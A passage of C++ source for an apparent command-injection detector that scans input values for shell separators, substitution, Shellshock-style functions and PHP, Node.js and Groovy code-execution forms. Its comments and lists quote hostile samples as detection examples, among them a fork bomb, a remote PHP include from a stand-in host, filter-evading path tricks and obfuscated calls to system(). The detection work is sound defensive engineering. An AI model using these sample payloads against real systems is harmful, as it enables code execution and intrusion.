    const size_t last_backtick = in.mask.Has('`') ? v.rfind('`') : std::string_view::npos;
    auto closed_after = [](size_t last, size_t i) {
      return last != std::string_view::npos && last > i;
    };
    // The separator bytes the value holds (the mask says which; newlines
    // are control bytes): with at most three of them, and no control bytes,
    // the loop below jumps from one to the next sixteen bytes at a time.
    char present[3] = {0, 0, 0};
    size_t n_present = 0;
    bool jump = !in.mask.has_control;
    for (char c : kPrintableSeparators) {
      if (!jump || !in.mask.Has(c)) continue;
      if (n_present == 3) {
        jump = false;
      } else {
        present[n_present++] = c;
      }
    }
    for (size_t k = n_present; jump && k < 3; ++k) present[k] = present[0];
    const auto* bytes = reinterpret_cast<const unsigned char*>(v.data());
    for (size_t i = 0; i < v.size(); ++i) {
      // Bytes the switch ignores (its default) are skipped.
      if (jump) {
        i = scan::FindAnyOf(v, i, present[0], present[1], present[2]);
      } else {
        while (i < v.size() && !kSeparatorByte[bytes[i]]) ++i;
      }
      if (i >= v.size()) break;
      char c = v[i];
      if (in_doc_span && c != '`') continue;
      Context ctx;
      size_t next = i + 1;
      bool in_brace = false;
      switch (c) {
        case ';':
          ctx = Context::kStrong;
          break;
        case '\\':
          // A line break written as the escape "\n" or "\r", which the
          // layers between a request and a shell (echo -e, printf, string
          // literals) turn into one: "\nid\n", ";id\n".
          if (!IsLiteralLineBreak(v, i)) continue;
          ++next;
          [[fallthrough]];
        case '\n':
        case '\r': {
          // A newline after code-like text (or first in the value) starts a
          // command; after a sentence it is just a line break.
          // The walk back over white space stops where the last line
          // break's walk began: a run of line breaks is walked once.
          size_t b = i;
          while (b > 0 && scan::IsSpace(v[b - 1])) {
            if (--b == break_walk_from) {
              b = break_walk_to;
              break;
            }
          }
          break_walk_from = i;
          break_walk_to = b;
          char prev = b > 0 ? v[b - 1] : ';';
          ctx = (prev == ';' || prev == '\'' || prev == '"' || prev == '|' || prev == '&' ||
                 prev == ')' || prev == '`' || prev == '>' || IsLoneOperand(v, b))
                    ? Context::kStrong
                    : Context::kWeak;
          break;
        }
        case '`': {
          // A markdown code fence ("```ruby" on a line of its own) opens a
          // block of documentation's code: install steps, a session, a
          // snippet. A block closed by its fence is skipped whole; an
          // unclosed fence is skipped alone (no substitution).
          // Once a search for a closing fence fails, later fences are not
          // searched from: the value is read once.
          if (const size_t fence_end = MarkdownFenceAt(v, i); fence_end != 0) {
            const size_t close = unclosed_fence ? std::string_view::npos
                                                : ClosingFenceAfter(v, fence_end, fence_end - i);
            unclosed_fence = close == std::string_view::npos;
            i = (unclosed_fence ? fence_end : close) - 1;
            continue;
          }
          open_backtick = !open_backtick;
          in_doc_span = false;
          if (!open_backtick) continue;  // closing one
          if (!closed_after(last_backtick, i)) continue;
          // `cmd` glued to a word or quote is shell; " `ls` " may be
          // markdown inline code and needs stronger evidence, and in a value
          // that reads as prose around its spans it is inline code: nothing
          // in it is reported. So is a span that opens the value and is
          // followed by a word ("`id` is the key"); "`id`" alone or followed
          // by code is glued to the start. "$(`ls`)": a backtick right
          // inside $( ) is glued too, and so is one right inside a call's
          // parentheses ("print(`id`)", Perl's and PHP's command operator).
          const auto word_follows_span = [&v, i] {
            const size_t close = v.find('`', i + 1);
            return close != std::string_view::npos && close + 2 < v.size() &&
                   v[close + 1] == ' ' && IsAlpha(v[close + 2]);
          };
          // A '[' before it opens a markdown link's text ("[`npm` docs](...)").
          bool glued = (i == 0 && !word_follows_span()) ||
                       (i > 0 && !scan::IsSpace(v[i - 1]) && v[i - 1] != '(' && v[i - 1] != '[') ||
                       (i > 0 && v[i - 1] == '(' && i >= 2 &&
                        (v[i - 2] == '$' || v[i - 2] == '<' || v[i - 2] == '>' ||
                         IsAlnum(v[i - 2]) || v[i - 2] == '_'));
          if (!glued) {
            if (prose < 0) prose = ProseAroundCodeSpans(v) ? 1 : 0;
            if (prose == 1) {
              in_doc_span = true;
              continue;
            }
          }
          ctx = glued ? Context::kSubstitution : Context::kCodeSpan;
          break;
        }
        case '|':
        case '&': {
          if (next < v.size() && v[next] == c) {
            ctx = Context::kStrong;
            ++next;
            break;
          }
          if (c == '|' && next < v.size() && v[next] == '&') ++next;  // |&
          if (c == '|') {
            if (i >= table_line_checked_upto) {
              size_t le = v.find('\n', i);
              table_line_checked_upto = le == std::string_view::npos ? v.size() : le;
              table_line = InTableRow(v, i);
            }
            if (table_line) continue;
          }
          // " & " or " | " between two words reads as prose.
          size_t b = BlanksBefore(v, i);
          bool spaced_before = b < i;
          bool word_before = b > 0 && IsAlnum(v[b - 1]);
          bool spaced_after = next < v.size() && IsBlank(v[next]);
          ctx = (word_before && (spaced_before || c == '&') && (spaced_after || c == '&') &&
                 !IsLoneOperand(v, b))
                    ? Context::kWeak
                    : Context::kStrong;
          if (c == '&' && word_before && !spaced_before && !spaced_after) {
            // "R&D", "AT&T", "a=1&b=2": not a separator.
            continue;
          }
          break;
        }
        case '$':
        case '<':
        case '>':
          // "$(<file)": bash's substitution of a file's contents.
          if (c == '$' && next + 1 < v.size() && v[next] == '(' && v[next + 1] == '<' &&
              closed_after(last_paren, next) && next + 2 < v.size() &&
              (v[next + 2] == '/' || v[next + 2] == '~' || v[next + 2] == '.') &&
              PlausibleRedirection(v, next + 1)) {
            return FillMatch(m, "cmdi.substitution",
                             "Command substitution reading a file into the command line", 90, i,
                             next + 2 - i);
          }
          // $(...), <(...), >(...), closed later in the value.
          if (next < v.size() && v[next] == '(' && closed_after(last_paren, next)) {
            ctx = Context::kSubstitution;
            ++next;
            break;
          }
          continue;
        case '{': {
          // Brace expansion {cmd,arg,...}, where a command starts: the
          // value's start, a separator or a quote before it. After a word
          // its words are that word's arguments ("Use {cat,dog} notation").
          size_t b = i;
          while (b > 0 && (v[b - 1] == ' ' || v[b - 1] == '\t')) --b;
          const char before = b > 0 ? v[b - 1] : ';';
          if (!(before == ';' || before == '|' || before == '&' || before == '\n' ||
                before == '\r' || before == '`' || before == '(' || before == '\'' ||
                before == '"' || before == '{')) {
            continue;
          }
          Word w = ReadWord(v, next, /*in_brace=*/true);
          if (w.end < v.size() && v[w.end] == ',' && ResolveWord(w).tier != Tier::kNone) {
            ctx = Context::kSubstitution;
            in_brace = true;
            break;
          }
          continue;
        }
        default:
          continue;
      }
      if (CheckPosition(v, next, ctx, m, in_brace, last_paren, &run_checks)) return true;
    }
    // bash's "${PATH:0:1}" (a '/' cut out of a variable that holds a path)
    // joined to the word before it ("cat${PATH:0:1}etc"): written only to
    // spell a path past a filter. (Opening a word, CheckPosition() reads it
    // as part of a command's path; alone, prose may name it.)
    if (in.mask.Has('$') && in.mask.Has('{') && in.mask.Has(':')) {
      int checks = 16;
      for (size_t p = scan::Find(v, "${"); p != std::string_view::npos && checks-- > 0;
           p = scan::Find(v, "${", p + 2)) {
        if (const size_t n = SlashExpansionLength(v, p); n > 0 && p > 0 && IsAlnum(v[p - 1])) {
          return FillMatch(m, "cmdi.variable_substring",
                           "bash substring of a path variable spells a '/'", 80, p, n);
        }
      }
    }
    return false;
  }

 private:
  // Where a bash function body "() {" starts the value, or npos: "()",
  // blanks, '{', and since '{' is a reserved word, a blank after it or the
  // end of the value (the rest cut off). Bash imports a variable as a
  // function only when its value starts so; the same shape inside a value is
  // code ("foo() { return 1; }" in a JSON field), not Shellshock. A leading
  // "name=" is read past: a cookie pair or a form body sent whole.
  static size_t FindFunctionDefinition(std::string_view v) {
    size_t p = 0;
    while (p < v.size() && scan::IsSpace(v[p])) ++p;
    size_t name = p;
    while (name < v.size() && name - p < 64 && (IsAlnum(v[name]) || v[name] == '_')) ++name;
    if (name > p && name < v.size() && v[name] == '=') p = name + 1;
    if (v.compare(p, 2, "()") != 0) return std::string_view::npos;
    return FunctionBodyOpen(v, p, /*cut_off_ok=*/true) != std::string_view::npos
               ? p
               : std::string_view::npos;
  }

  // Where the '{' that opens a bash function body stands after the "()" at
  // `p` (up to a few blanks between), or npos. '{' is a reserved word, so a
  // blank follows it; with `cut_off_ok` the value may also end right there.
  static size_t FunctionBodyOpen(std::string_view v, size_t p, bool cut_off_ok) {
    size_t q = p + 2;
    while (q < v.size() && q - p < 8 && IsBlank(v[q])) ++q;
    if (q >= v.size() || v[q] != '{') return std::string_view::npos;
    if (q + 1 >= v.size()) return cut_off_ok ? q : std::string_view::npos;
    return IsBlank(v[q + 1]) || scan::IsSpace(v[q + 1]) ? q : std::string_view::npos;
  }

  // Bytes of a shell function's name: bash takes any word, and fork bombs
  // use ':' and '.' as well as letters.
  static bool IsFunctionNameByte(char c) {
    return IsAlnum(c) || c == '_' || c == ':' || c == '.' || c == '-';
  }

  // Where "name() { body }" starts when the same name runs right after the
  // body (";name", " name"), or npos; `*len` is the span to the end of that
  // run. "name()" and the body's opening (FunctionBodyOpen()); the body ends
  // at the first '}'. ":(){ :|:& };:" is the classic fork bomb;
  // JavaScript's "foo() { ... }" is followed by a call with parentheses or
  // by nothing.
  static size_t FindFunctionRun(std::string_view v, size_t* len) {
    for (size_t p = scan::Find(v, "()"); p != std::string_view::npos;
         p = scan::Find(v, "()", p + 2)) {
      size_t b = p;
      while (b > 0 && p - b < 64 && IsFunctionNameByte(v[b - 1])) --b;
      if (b == p) continue;
      const std::string_view name = v.substr(b, p - b);
      const size_t q = FunctionBodyOpen(v, p, /*cut_off_ok=*/false);
      if (q == std::string_view::npos) continue;
      const size_t close = v.find('}', q + 2);
      if (close == std::string_view::npos) return std::string_view::npos;
      size_t r = close + 1;
      while (r < v.size() && scan::IsSpace(v[r])) ++r;
      if (r < v.size() && v[r] == ';') ++r;
      while (r < v.size() && scan::IsSpace(v[r])) ++r;
      if (v.compare(r, name.size(), name) != 0) continue;
      const size_t e = r + name.size();
      if (e < v.size() && (IsFunctionNameByte(v[e]) || v[e] == '(')) continue;
      *len = e - b;
      return b;
    }
    return std::string_view::npos;
  }

  // Where the name of the function called at `open` (its '(') starts. Read
  // back at most 32 bytes: every name looked up is shorter.
  static size_t CallNameStart(std::string_view v, size_t open) {
    size_t n = open;
    while (n > 0 && open - n < 32 && (IsAlnum(v[n - 1]) || v[n - 1] == '_')) --n;
    return n;
  }

  // The '(' that a ')' at `k` would close (v[k] itself is read as that ')'),
  // reading back at most 128 bytes; npos when none does.
  static size_t OpenParenFor(std::string_view v, size_t k) {
    int depth = 1;
    for (size_t j = k; j-- > 0 && k - j < 128;) {
      if (v[j] == ')') ++depth;
      if (v[j] == '(' && --depth == 0) return j;
    }
    return std::string_view::npos;
  }

  // Whether a call of one of PHP's decoding functions starts at `a`
  // ("base64_decode(", "gzinflate("): code hidden from a reader.
  static bool DecoderCallAt(std::string_view v, size_t a) {
    size_t e = a;
    while (e < v.size() && e - a <= 20 && (IsAlnum(v[e]) || v[e] == '_')) ++e;
    return e > a && e < v.size() && v[e] == '(' &&
           scan::IEqualsAny(v.substr(a, e - a), kPhpDecoders);
  }

  // Whether the request superglobal at `d` ("$_GET", "$_POST",
  // "$_REQUEST") is passed whole as an argument: "extract($_GET)".
  static bool SuperglobalPassed(std::string_view v, size_t d) {
    size_t e = d + 2;
    while (e < v.size() && IsAlpha(v[e])) ++e;
    e = scan::SkipSpaces(v, e);
    size_t b = BlanksBefore(v, d);
    return b > 0 && (v[b - 1] == '(' || v[b - 1] == ',') && e < v.size() &&
           (v[e] == ')' || v[e] == ',');
  }

  // Whether "$name=" (not "==") occurs in `v` before `before`.
  static bool PhpAssignedBefore(std::string_view v, std::string_view var, size_t before) {
    for (size_t k = v.find(var); k != std::string_view::npos && k < before;
         k = v.find(var, k + 1)) {
      const size_t e = k + var.size();
      if (e < v.size() && (IsAlnum(v[e]) || v[e] == '_')) continue;
      const size_t eq = scan::SkipSpaces(v, e);
      if (eq + 1 < v.size() && v[eq] == '=' && v[eq + 1] != '=') return true;
    }
    return false;
  }

  // Whether a PHP statement may start at `b`: the value's start, or after
  // ';', '{' or '}', with '@' (errors silenced) and blanks between.
  static bool PhpStatementStartsAt(std::string_view v, size_t b) {
    size_t j = b;
    while (j > 0 && (IsBlank(v[j - 1]) || v[j - 1] == '@' || v[j - 1] == '\n')) --j;
    return j == 0 || v[j - 1] == ';' || v[j - 1] == '{' || v[j - 1] == '}';
  }

  // A call of one of the functions above (IsPhpStatementFunction()) that is a statement of its own:
  // it may start a statement (PhpStatementStartsAt), its argument opens
  // with a quote, a variable, another such call or (for names with '_') a
  // number, or it has none, and after it come only ';', "?>", a comment or
  // the value's end: "scandir('/')", "@unlink('index.php');",
  // "set_time_limit(0);". Where the name starts, or npos; `*len` to its '('.
  static size_t FindPhpStatementCall(std::string_view v, size_t* len) {
    int checks = 16;
    for (size_t i = v.find('('); i != std::string_view::npos && checks > 0;
         i = v.find('(', i + 1)) {
      const size_t b = CallNameStart(v, i);
      const std::string_view name = v.substr(b, i - b);
      if (b == i || !IsPhpStatementFunction(name)) continue;
      --checks;
      if (!PhpStatementStartsAt(v, b)) continue;
      const size_t a = scan::SkipSpaces(v, i + 1);
      if (a >= v.size()) continue;
      size_t inner = a;
      while (inner < v.size() && inner - a < 32 && (IsAlnum(v[inner]) || v[inner] == '_')) ++inner;
      const bool code_arg = v[a] == '\'' || v[a] == '"' || v[a] == '$' ||
                            (v[a] == ')' && !scan::IEqualsAny(name, kPhpDumpFunctions)) ||
                            (IsDigit(v[a]) && name.find('_') != std::string_view::npos) ||
                            (IsAlpha(v[a]) && inner < v.size() && v[inner] == '(' &&
                             IsPhpStatementFunction(v.substr(a, inner - a)));
      if (!code_arg) continue;
      const size_t close = CallCloses(v, i);
      if (close == std::string_view::npos) continue;
      const size_t e = scan::SkipSpaces(v, close + 1);
      if (e == v.size() || v[e] == ';' || v[e] == '#' || IAt(v, e, "?>") || IAt(v, e, "//")) {
        *len = i + 1 - b;
        return b;
      }
    }
    return std::string_view::npos;
  }

  // Whether the argument list that `k` (its '(' or a ',' in it) belongs to
  // is that of a PHP function that calls a callback it is given.
  static bool InCallbackTakingCall(std::string_view v, size_t k) {
    static constexpr std::string_view kTakers[] = {"call_user_func",
                                                   "call_user_func_array",
                                                   "forward_static_call",
                                                   "forward_static_call_array",
                                                   "array_map",
                                                   "array_filter",
                                                   "array_walk",
                                                   "array_walk_recursive",
                                                   "array_reduce",
                                                   "usort",
                                                   "uasort",
                                                   "uksort",
                                                   "register_shutdown_function",
                                                   "register_tick_function",
                                                   "iterator_apply",
                                                   "ob_start",
                                                   "set_error_handler",
                                                   "set_exception_handler",
                                                   "spl_autoload_register",
                                                   "preg_replace_callback",
                                                   "mb_ereg_replace_callback",
                                                   "header_register_callback",
                                                   "reflectionfunction"};
    const size_t open = v[k] == '(' ? k : OpenParenFor(v, k);
    if (open == std::string_view::npos) return false;
    const size_t n = CallNameStart(v, open);
    return scan::IEqualsAny(v.substr(n, open - n), kTakers);
  }

  // PHP's functions that run a command, named as a quoted argument of a
  // call ("array_map('system', ...)", "usort($a, 'system')",
  // "call_user_func('passthru', 'id')"): the callee runs it. Where the
  // quote opens, or npos.
  static size_t FindPhpCallback(std::string_view v) {
    // One memchr pass per quote character (find_first_of() compares byte by
    // byte).
    for (const char quote : {'\'', '"'}) {
      for (size_t q = v.find(quote); q != std::string_view::npos; q = v.find(quote, q + 1)) {
        size_t b = BlanksBefore(v, q);
        if (b == 0 || (v[b - 1] != '(' && v[b - 1] != ',')) continue;
        if (!InCallbackTakingCall(v, b - 1)) continue;
        const size_t rel = v.substr(q + 1, 21).find(quote);
        if (rel == std::string_view::npos) continue;
        const size_t close = q + 1 + rel;
        if (!scan::IEqualsAny(v.substr(q + 1, close - q - 1), kPhpRunners)) continue;
        const size_t after = scan::SkipSpaces(v, close + 1);
        if (after < v.size() && (v[after] == ',' || v[after] == ')')) return q;
      }
    }
    return std::string_view::npos;
  }

  // A call whose callee is computed, with a string or variable argument:
  // "('sys'.'tem')('id')", "(system)('id')", "base64_decode('...')('id')",
  // "\"\x73ystem\"('id')". The callee is a parenthesized expression that
  // concatenates strings or names a command runner, a call of a decoding
  // function, or a quoted name. Where the callee starts, or npos.
  static size_t FindPhpComputedCall(std::string_view v, size_t* len) {
    int checks = 0;
    for (size_t k = v.find(")("); k != std::string_view::npos && checks < 64;
         k = v.find(")(", k + 1)) {
      ++checks;
      const size_t a = scan::SkipSpaces(v, k + 2);
      if (a >= v.size() || (v[a] != '\'' && v[a] != '"' && v[a] != '$')) continue;
      const size_t open = OpenParenFor(v, k);
      if (open == std::string_view::npos) continue;
      const std::string_view inner = v.substr(open + 1, k - open - 1);
      const size_t n = CallNameStart(v, open);
      const std::string_view callee = v.substr(n, open - n);
      const bool concatenated = inner.find("'.'") != std::string_view::npos ||
                                inner.find("\".\"") != std::string_view::npos ||
                                inner.find("'.\"") != std::string_view::npos ||
                                inner.find("\".'") != std::string_view::npos;
      const bool named = callee.empty() && scan::IEqualsAny(inner, kPhpRunners);
      const bool decoded = !callee.empty() && scan::IEqualsAny(callee, kPhpDecoders) &&
                           !inner.empty() && (inner[0] == '\'' || inner[0] == '"');
      if ((callee.empty() && concatenated) || named || decoded) {
        *len = a - n;
        return n;
      }
    }
    // A quoted name called at once: "\"system\"('id')", "'\x73ystem'('id')".
    for (size_t k = v.find("('"); k != std::string_view::npos; k = v.find("('", k + 1)) {
      if (k < 3 || (v[k - 1] != '\'' && v[k - 1] != '"')) continue;
      // The opening quote, within 48 bytes.
      const size_t lo = k - 1 > 49 ? k - 1 - 49 : 0;
      const size_t rel = v.substr(lo, k - 1 - lo).rfind(v[k - 1]);
      if (rel == std::string_view::npos) continue;
      const size_t open = lo + rel;
      const std::string_view name = v.substr(open + 1, k - 2 - open);
      if (name.find("\\x") != std::string_view::npos || scan::IEqualsAny(name, kPhpRunners)) {
        *len = k + 1 - open;
        return open;
      }
    }
    return std::string_view::npos;
  }

  // PHP (and similar) code that runs commands: <?php, system('...'),
  // ${@print(...)}, {${phpinfo()}}.
  static bool InspectCodeExec(std::string_view v, const CharMask& mask, Match* m) {
    size_t p = mask.Has('<') && mask.Has('?') ? scan::IFind(v, "<?php") : std::string_view::npos;
    if (p != std::string_view::npos) {
      return FillMatch(m, "cmdi.php_code", "PHP code block in a value", 85, p, 5);
    }
    int variable_calls = 0;
    int underscore_vars = 0;
    for (size_t d = v.find('$'); d != std::string_view::npos; d = v.find('$', d + 1)) {
      const size_t global = d + 1 < v.size() && v[d + 1] == '_' ? PhpSuperglobalAt(v, d + 2) : 0;
      if ((global > 0 &&
           ((d + 2 + global < v.size() && v[d + 2 + global] == '[') ||
            ((IAt(v, d + 2, "get") || IAt(v, d + 2, "post") || IAt(v, d + 2, "request")) &&
             SuperglobalPassed(v, d)))) ||
          v.compare(d + 1, 8, "GLOBALS[") == 0) {
        return FillMatch(m, "cmdi.php_superglobal", "PHP request superglobal used as code", 75, d,
                         6);
      }
      // "$f('id')" where the value assigned "$f=" before: a variable function.
      // (Bounded: each check reads the value up to the call.)
      if (d + 2 < v.size() && (IsAlpha(v[d + 1]) || v[d + 1] == '_') && variable_calls < 16) {
        size_t e = d + 1;
        while (e < v.size() && e - d <= 32 && (IsAlnum(v[e]) || v[e] == '_')) ++e;
        const size_t a = scan::SkipSpaces(v, e);
        if (a + 1 < v.size() && v[a] == '(' &&
            (v[a + 1] == '\'' || v[a + 1] == '"' || v[a + 1] == '$') && ++variable_calls &&
            PhpAssignedBefore(v, v.substr(d, e - d), d)) {
          return FillMatch(m, "cmdi.php_dynamic_call",
                           "PHP call of a function named by a variable assigned in the value", 85,
                           d, a + 1 - d);
        }
      }
      // "${'_GET'}[0]": a variable variable that names a request superglobal.
      if (d + 3 < v.size() && v[d + 1] == '{' && (v[d + 2] == '\'' || v[d + 2] == '"')) {
        const size_t q = v.find(v[d + 2], d + 3);
        const std::string_view inner =
            q == std::string_view::npos ? std::string_view() : v.substr(d + 3, q - d - 3);
        if (q + 1 < v.size() && v[q + 1] == '}' &&
            ((inner.size() > 1 && inner[0] == '_' &&
              scan::IEqualsAny(inner.substr(1), kPhpSuperglobals)) ||
             scan::IEquals(inner, "globals"))) {
          return FillMatch(m, "cmdi.php_superglobal",
                           "PHP variable variable naming a request superglobal", 75, d, q + 2 - d);
        }
      }
      // "$_", "$__", "$___": variables named without letters, the
      // vocabulary of PHP written without alphanumerics
      // ("$_=\"\";$_[+\"\"]='';$__=$_.$_;").
      // (JavaScript written without letters names its variables "$_$_" and
      // "$$_$", its properties "$.$_" and its keys "$__:".)
      if (d + 1 < v.size() && v[d + 1] == '_' &&
          (d == 0 || (v[d - 1] != '$' && v[d - 1] != '_' && v[d - 1] != '.'))) {
        size_t e = d + 1;
        while (e < v.size() && v[e] == '_') ++e;
        if ((e == v.size() || !(IsAlnum(v[e]) || v[e] == '$' || v[e] == ':' ||
                                static_cast<unsigned char>(v[e]) >= 0x80)) &&
            ++underscore_vars >= 3 && mask.Has('=') && mask.Has(';')) {
          return FillMatch(m, "cmdi.php_code",
                           "PHP variables named only with underscores (code written without "
                           "letters)",
                           70, d, e - d);
        }
      }
      if (d + 1 < v.size() && v[d + 1] == '{') {
        size_t a = d + 2;
        if (a < v.size() && v[a] == '@') ++a;
        size_t b = a;
        while (b < v.size() && b - a < 32 && (IsAlnum(v[b]) || v[b] == '_')) ++b;
        if (b > a + 1 && b < v.size() && v[b] == '(' && (a > d + 2 || (d > 0 && v[d - 1] == '{'))) {
          return FillMatch(m, "cmdi.php_complex_syntax",
                           "PHP complex string syntax calling a function", 85, d, b - d + 1);
        }
      }
    }
    if (mask.Has('=') && mask.Has('_')) {
      for (std::string_view d : kPhpIncludeDirectives) {
        for (size_t k = scan::IFind(v, d); k != std::string_view::npos;
             k = scan::IFind(v, d, k + 1)) {
          if (k > 0 && (IsAlnum(v[k - 1]) || v[k - 1] == '_')) continue;
          const size_t eq = scan::SkipSpaces(v, k + d.size());
          if (eq < v.size() && v[eq] == '=') {
            return FillMatch(m, "cmdi.php_ini_directive",
                             "PHP configuration directive that includes remote or request code: " +
                                 std::string(d),
                             80, k, eq + 1 - k);
          }
        }
      }
    }
    // PHP code that includes a remote or wrapped file, which PHP then runs:
    // "require_once('http://evil.example/x.txt')", "include 'php://input';".
    // Read back from each quote, which prose holds less often than the
    // letters of the two names.
    for (const char quote_char : {'\'', '"'}) {
      for (size_t q = mask.Has(quote_char) ? v.find(quote_char) : std::string_view::npos;
           q != std::string_view::npos; q = v.find(quote_char, q + 1)) {
        size_t b = BlanksBefore(v, q, 32);
        const bool paren = b > 0 && v[b - 1] == '(';
        if (paren) b = BlanksBefore(v, b - 1, 32);
        if (b >= 5 && IAt(v, b - 5, "_once")) b -= 5;
        if (b < 7 || !(IAt(v, b - 7, "include") || IAt(v, b - 7, "require"))) continue;
        const size_t k = b - 7;
        if (k > 0 && (IsAlnum(v[k - 1]) || v[k - 1] == '_')) continue;
        const char quote = v[q];
        size_t e = q + 1;
        for (std::string_view scheme : {"http://", "https://", "ftp://", "php://",
                                        "data:", "expect://", "zip://", "phar://", "\\\\"}) {
          if (IAt(v, e, scheme)) {
            return FillMatch(m, "cmdi.php_remote_include",
                             "PHP code that includes a remote or wrapped file", 85, k, e - k);
          }
        }
        // A literal absolute or parent-relative path, "include('/var/log/
        // apache2/access.log')": code that runs a file already on the
        // server. Without parentheses the include must be a statement that
        // the literal ends ("include '../up/x.php';"), not prose ("include
        // '/tmp' in the list").
        const bool absolute = (e < v.size() && v[e] == '/') || IAt(v, e, "../") ||
                              IAt(v, e, "..\\") ||
                              (e + 2 < v.size() && IsAlpha(v[e]) && v[e + 1] == ':' &&
                               (v[e + 2] == '\\' || v[e + 2] == '/'));
        const size_t rel = absolute ? v.substr(e, 257).find(quote) : std::string_view::npos;
        if (rel != std::string_view::npos) {
          const size_t end = e + rel;
          const size_t after = scan::SkipSpaces(v, end + 1);
          const bool closed =
              paren ? (after < v.size() && v[after] == ')')
                    : (PhpStatementStartsAt(v, k) && (after == v.size() || v[after] == ';'));
          if (closed) {
            return FillMatch(m, "cmdi.php_file_include",
                             "PHP code that includes a file by its path on the server", 80, k,
                             end + 1 - k);
          }
        }
      }
    }
    // Everything below is a call.
    if (!mask.Has('(')) return false;
    // A decoder's output decoded again ("gzinflate(base64_decode('...'))"):
    // the layers PHP droppers wrap their code in.
    for (size_t i = v.find('('); i != std::string_view::npos; i = v.find('(', i + 1)) {
      if (DecoderCallAt(v, scan::SkipSpaces(v, i + 1))) {
        const size_t b = CallNameStart(v, i);
        if (b < i && DecoderCallAt(v, b)) {
          return FillMatch(m, "cmdi.php_decoder_chain",
                           "PHP decoding functions nested to unpack hidden code", 80, b, i + 1 - b);
        }
      }
    }
    // A string built from character codes, "chr(115).chr(121).chr(115)".
    // (Found from each '(', which prose holds less often than "chr"'s
    // letters.)
    for (size_t i = v.find('('), run = 0, last = 0; i != std::string_view::npos;
         i = v.find('(', i + 1)) {
      if (i < 3 || !IAt(v, i - 3, "chr")) continue;
      const size_t k = i - 3;
      size_t e = k + 4;
      while (e < v.size() && IsDigit(v[e])) ++e;
      if (e == k + 4 || e >= v.size() || v[e] != ')') continue;
      run = (run > 0 && k == last) ? run + 1 : 1;
      if (run >= 3) {
        return FillMatch(m, "cmdi.php_chr_chain", "String built from character codes with chr()",
                         80, k, e + 1 - k);
      }
      last = e + 1 < v.size() && v[e + 1] == '.' ? e + 2 : std::string_view::npos;
    }
    // Node.js loading its process module: require('child_process'),
    // require("node:child_process").
    static constexpr uint64_t kChildProcessNeed = CharMask::AlnumOf("requirechild_process");
    for (size_t r = mask.HasAlnumOf(kChildProcessNeed) ? scan::Find(v, "require")
                                                       : std::string_view::npos;
         r != std::string_view::npos; r = scan::Find(v, "require", r + 7)) {
      size_t a = scan::SkipSpaces(v, r + 7);
      if (a >= v.size() || v[a] != '(') continue;
      a = scan::SkipSpaces(v, a + 1);
      if (a >= v.size() || (v[a] != '\'' && v[a] != '"' && v[a] != '`')) continue;
      const char quote = v[a++];
      if (v.compare(a, 5, "node:") == 0) a += 5;
      if (v.compare(a, 13, "child_process") == 0 && a + 13 < v.size() && v[a + 13] == quote) {
        return FillMatch(m, "cmdi.node_child_process",
                         "Node.js code that loads child_process to run commands", 85, r,
                         a + 14 - r);
      }
    }
    // Groovy runs a string or list as a command: "id".execute(),
    // ['sh', '-c', 'id'].execute() (the Jenkins script console).
    static constexpr uint64_t kExecuteNeed = CharMask::AlnumOf("execute");
    const bool execute_possible = mask.HasAlnumOf(kExecuteNeed) && mask.HasAny("\"']");
    // Found by its 'x', which prose holds far less often than a '.'.
    for (size_t y = execute_possible ? scan::Find(v, "xecute") : std::string_view::npos;
         y != std::string_view::npos; y = scan::Find(v, "xecute", y + 6)) {
      if (y < 2 || v[y - 1] != 'e' || v[y - 2] != '.') continue;
      const size_t x = y - 2;
      size_t b = BlanksBefore(v, x);
      if (b == 0 || !(v[b - 1] == '"' || v[b - 1] == '\'' || v[b - 1] == ']')) continue;
      const size_t a = scan::SkipSpaces(v, x + 8);
      if (a < v.size() && v[a] == '(') {
        return FillMatch(m, "cmdi.groovy_execute",
                         "Groovy code that runs a string or list as a command (.execute())", 80,
                         b - 1, a + 1 - (b - 1));
      }
    }
    static constexpr std::string_view kExecFunctions[] = {
        "system",
        "passthru",
        "shell_exec",
        "exec",
        "popen",
        "proc_open",
        "pcntl_exec",
        "phpinfo",
        "phpversion",
        "assert",
        "eval",
        "create_function",
        "call_user_func",
        "call_user_func_array",
        "forward_static_call",
        "register_shutdown_function",
        "show_source",
        "highlight_file",
        "ini_set",
        "putenv",
        "file_put_contents",
        "move_uploaded_file",
    };
    if (const size_t at = FindPhpCallback(v); at != std::string_view::npos) {
      return FillMatch(m, "cmdi.php_callback",
                       "PHP call that takes a command-running function by name as its callback", 85,
                       at, 1);
    }
    if (size_t len = 0; mask.Has(')') && mask.Has('(')) {
      if (const size_t at = FindPhpComputedCall(v, &len); at != std::string_view::npos) {
        return FillMatch(m, "cmdi.php_dynamic_call",
                         "PHP call of a function whose name is computed (concatenated, "
                         "decoded or parenthesized)",
                         85, at, len);
      }
    }
    for (size_t i = v.find('('); i != std::string_view::npos; i = v.find('(', i + 1)) {
      const size_t b = CallNameStart(v, i);
      if (b == i || i - b > 20) continue;
      std::string_view name = v.substr(b, i - b);
      if (!scan::IEqualsAny(name, kExecFunctions)) continue;
      size_t a = scan::SkipSpaces(v, i + 1);
      bool no_args = a < v.size() && v[a] == ')';
      bool bare_call = no_args && (scan::IAt(name, 0, "php"));
      bool code_arg =
          (a < v.size() && (v[a] == '\'' || v[a] == '"' || v[a] == '$' || v[a] == '`')) ||
          DecoderCallAt(v, a);
      char before = b > 0 ? v[b - 1] : ' ';
      bool code_before = b == 0 || before == ';' || before == '@' || before == '{' ||
                         before == '(' || before == '.' || before == ':' || before == '|' ||
                         before == '&' || IsBlank(before) || before == '\'' || before == '"';
      if ((bare_call || code_arg) && code_before) {
        return FillMatch(m, "cmdi.code_exec_call",
                         "Call of the code-execution function " + std::string(name) + "()", 85, b,
                         i - b + 1);
      }
    }
    // PHP (or Perl) string concatenation that calls a function where the
    // value breaks out of a quoted string: x'.sleep(12).' / ".phpinfo()."
    for (size_t d = v.find('.'); d != std::string_view::npos; d = v.find('.', d + 1)) {
      if (d == 0 || (v[d - 1] != '\'' && v[d - 1] != '"')) continue;
      const char quote = v[d - 1];
      size_t e = d + 1;
      while (e < v.size() && e - d <= 32 && (IsAlnum(v[e]) || v[e] == '_')) ++e;
      if (e == d + 1 || e >= v.size() || v[e] != '(' || !IsAlpha(v[d + 1])) continue;
      // The call's closing parenthesis, looked for within 64 bytes.
      const size_t rel = v.substr(e, 64).find(')');
      if (rel == std::string_view::npos) continue;
      const size_t close = e + rel;
      if (close + 2 < v.size() && v[close + 1] == '.' && v[close + 2] == quote) {
        return FillMatch(m, "cmdi.concat_call",
                         "Function call concatenated into a quoted string (" +
